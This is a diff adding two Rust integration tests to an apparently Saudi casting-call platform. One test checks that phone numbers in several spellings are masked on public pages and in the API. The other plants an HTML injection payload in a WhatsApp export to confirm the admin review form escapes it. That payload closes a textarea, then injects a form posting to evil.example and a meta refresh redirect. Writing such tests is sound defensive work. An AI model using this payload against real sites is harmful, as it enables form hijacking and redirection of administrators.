@@ -599,3 +599,61 @@ async fn simultaneous_reposts_are_folded_into_one_candidate() {
     let reposts: i32 = sqlx::query_scalar("SELECT repost_count FROM ingestion_candidates").fetch_one(&app.db).await.unwrap();
     assert_eq!(reposts, 19);
 }
+
+#[tokio::test]
+async fn phone_numbers_in_any_published_field_of_a_gathered_call_are_masked() {
+    let app = TestApp::spawn().await;
+    let mut admin = admin(&app, "ops@takeone.sa").await;
+    let source = whatsapp_source(&mut admin, "120363000000000009@g.us").await;
+    upload(&mut admin, &source, ANDROID_AR).await;
+    settled(&app).await;
+    let first = pending(&app).await.remove(0);
+
+    // One spelling per field: spaces, dots, Arabic-Indic digits, +966, dashes, brackets.
+    let spelled = [
+        ("form[title]", "كاستنج جدة 055.555.0191"),
+        ("form[company]", "استوديو النخلة ٠٥٥٥٥٥٠١٩١"),
+        ("form[description]", "مطلوب ممثلون لمسلسل درامي في جدة، للتواصل +966 55 555 0191 قبل الموعد"),
+        ("form[roles][0][name]", "الأم 055-555-0191"),
+        ("form[roles][0][description]", "ترسل الصور إلى (055) 555 0191"),
+        ("form[questions][0]", "هل تواصلت مع ۰۵۵۵۵۵۰۱۹۱ من قبل؟"),
+        ("form[contact]", "واتساب 0555550191"),
+    ];
+    let mut form: Vec<(String, String)> = call_form("", "", "publish").into_iter().filter(|(k, _)| k != "call_id").collect();
+    form.retain(|(k, _)| !spelled.iter().any(|(s, _)| s == k));
+    form.extend(spelled.iter().map(|(k, v)| (k.to_string(), v.to_string())));
+    form.push(("id".into(), first.clone()));
+    form.push(("next".into(), String::new()));
+    let res = admin.post_owned("/api/fn/approve_candidate", &form).await;
+    assert_eq!(res.status(), StatusCode::FOUND, "{}", plain(&res.text().await.unwrap_or_default()));
+    let call: uuid::Uuid = sqlx::query_scalar("SELECT casting_call_id FROM ingestion_candidates WHERE id = $1::uuid").bind(&first).fetch_one(&app.db).await.unwrap();
+    for lang in ["ar", "en"] {
+        let (status, page) = app.browser().get(&format!("/{lang}/casting-calls/{call}")).await;
+        assert_eq!(status, StatusCode::OK);
+        let digits: String = page.chars().map(|c| match c { '٠'..='٩' => char::from(b'0' + (c as u32 - 0x660) as u8), '۰'..='۹' => char::from(b'0' + (c as u32 - 0x6F0) as u8), c => c }).collect();
+        assert!(!digits.contains("0191"), "a number reached the public page in /{lang}/: {}", texts(&page, "main").join(" "));
+        assert!(plain(&page).contains("كاستنج جدة •••"), "the title is kept around the masked number");
+    }
+    let (_, api_body) = api(&mut app.browser(), "GET", &format!("/api/v1/casting-calls/{call}"), None).await;
+    assert!(!api_body.to_string().contains("0191"), "nor in the API: {api_body}");
+}
+
+#[tokio::test]
+async fn html_injection_through_a_gathered_post_does_not_escape_the_review_form() {
+    let app = TestApp::spawn().await;
+    let mut admin = admin(&app, "ops@takeone.sa").await;
+    let source = whatsapp_source(&mut admin, "120363000000000010@g.us").await;
+    let export = "2/3/25, 10:02 - Messages and calls are end-to-end encrypted. No one outside of this chat, not even WhatsApp, can read or listen to them. Tap to learn more.\n\
+        2/3/25, 11:30 - Faisal Alharbi: Casting call: actors needed for a drama series shooting in Jeddah. Male, 25-35 years old. Paid 2000 SAR per day. \
+        Apply before 20/3/2025 </textarea><form data-injected=\"1\" action=\"https://evil.example\"><input name=\"x\"></form><meta data-injected=\"1\" http-equiv=\"refresh\" content=\"0;url=https://evil.example\">\n";
+    upload(&mut admin, &source, export).await;
+    settled(&app).await;
+    let queue = pending(&app).await;
+    assert_eq!(queue.len(), 1, "the post is a candidate");
+    let (status, page) = admin.get(&format!("/ar/admin/twin/queue/{}", queue[0])).await;
+    assert_eq!(status, StatusCode::OK);
+    assert!(texts(&page, "[data-injected]").is_empty(), "the gathered text stays text in the review form");
+    let doc = scraper::Html::parse_document(&page);
+    let sel = scraper::Selector::parse("textarea").unwrap();
+    assert!(doc.select(&sel).any(|t| t.text().collect::<String>().contains("</textarea><form data-injected")), "and reads back as typed");
+}
